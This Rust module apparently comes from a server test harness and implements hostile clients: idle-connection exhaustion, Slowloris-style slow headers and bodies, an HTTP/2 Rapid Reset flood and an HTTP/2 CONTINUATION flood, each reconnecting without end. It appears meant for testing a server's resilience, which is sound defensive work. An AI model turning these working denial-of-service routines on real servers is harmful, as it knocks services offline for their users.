//! Clients that take what they can.

use std::fmt::{self, Display, Formatter};
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::Failure;

/// How many connections have the slow clients, and the floods.
const SLOW: usize = 1_000;
const FLOODS: usize = 4;
const IDLE: usize = 10_000;

/// How long a slow client waits before each byte.
const BETWEEN: Duration = Duration::from_millis(500);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `GET http://a/`
const GET: &[u8] = b"\x82\x86\x84\x41\x01a";

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Hostile {
    Nobody,
    Idle,
    SlowHeads,
    SlowBodies,
    Resets,
    Continuations,
}

/// It ends when this is dropped.
pub(crate) struct Attack {
    _clients: JoinSet<()>,
    /// How many connections of a flood were ended.
    ended: Arc<AtomicU64>,
    is_flood: bool,
}

impl Hostile {
    pub(crate) const ALL: [Self; 6] = [
        Self::Nobody,
        Self::Idle,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::Resets,
        Self::Continuations,
    ];

    /// Returns when all connections are there.
    pub(crate) async fn begin(self, server: SocketAddr) -> Result<Attack, Failure> {
        let mut clients = JoinSet::new();
        let ended = Arc::new(AtomicU64::new(0));
        let connections = match self {
            Self::Nobody => 0,
            Self::Idle => IDLE,
            Self::SlowHeads | Self::SlowBodies => SLOW,
            Self::Resets | Self::Continuations => FLOODS,
        };
        for _ in 0..connections {
            let stream = TcpStream::connect(server).await?;
            let ended = Arc::clone(&ended);
            clients.spawn(async move {
                let mut stream = stream;
                // The server may end a connection at any time.
                loop {
                    let _ = self.act(&mut stream).await;
                    ended.fetch_add(1, Ordering::Relaxed);
                    match TcpStream::connect(server).await {
                        Ok(another) => stream = another,
                        Err(_) => sleep(BETWEEN).await,
                    }
                }
            });
        }
        Ok(Attack {
            _clients: clients,
            ended,
            is_flood: matches!(self, Self::Resets | Self::Continuations),
        })
    }

    /// Acts until the server ends the connection.
    async fn act(self, stream: &mut TcpStream) -> Result<(), Failure> {
        match self {
            Self::Nobody | Self::Idle => {
                stream.read_u8().await?;
            }
            Self::SlowHeads => {
                return slowly(stream, b"GET / HTTP/1.1\r\nhost: a\r\nx-long: ").await;
            }
            Self::SlowBodies => {
                return slowly(
                    stream,
                    b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n",
                )
                .await;
            }
            Self::Resets => {
                stream.write_all(PREFACE).await?;
                let mut next = (1_u32..1 << 30).step_by(2);
                loop {
                    let mut frames = Vec::new();
                    for stream in next.by_ref().take(100) {
                        frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
                        frames.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
                    }
                    stream.write_all(&frames).await?;
                }
            }
            Self::Continuations => {
                stream.write_all(PREFACE).await?;
                stream
                    .write_all(&frame(HEADERS, END_STREAM, 1, GET))
                    .await?;
                loop {
                    stream.write_all(&frame(CONTINUATION, 0, 1, b"")).await?;
                }
            }
        }
        Ok(())
    }
}

/// Sends this, and then a byte from time to time.
async fn slowly(stream: &mut TcpStream, begun: &[u8]) -> Result<(), Failure> {
    stream.write_all(begun).await?;
    loop {
        sleep(BETWEEN).await;
        stream.write_all(b"a").await?;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    #[expect(clippy::cast_possible_truncation, reason = "a few bytes")]
    let head = [0, 0, payload.len() as u8, kind, flags];
    [&head, stream.to_be_bytes().as_slice(), payload].concat()
}

impl Attack {
    /// Returns how it went, and ends it.
    pub(crate) fn end(self) -> String {
        match (self.is_flood, self.ended.load(Ordering::Relaxed)) {
            (true, ended) => format!(", {ended} of which were ended"),
            _ => String::new(),
        }
    }
}

impl Display for Hostile {
    fn fmt(&self, f: &mut Formatter<'_>) -> fmt::Result {
        match self {
            Self::Nobody => f.write_str("nobody"),
            Self::Idle => write!(f, "{IDLE} connections that send nothing"),
            Self::SlowHeads => write!(f, "{SLOW} heads of a byte each half a second"),
            Self::SlowBodies => write!(f, "{SLOW} such bodies"),
            Self::Resets => write!(f, "{FLOODS} connections of requests that are reset at once"),
            Self::Continuations => write!(f, "{FLOODS} connections of heads without an end"),
        }
    }
}
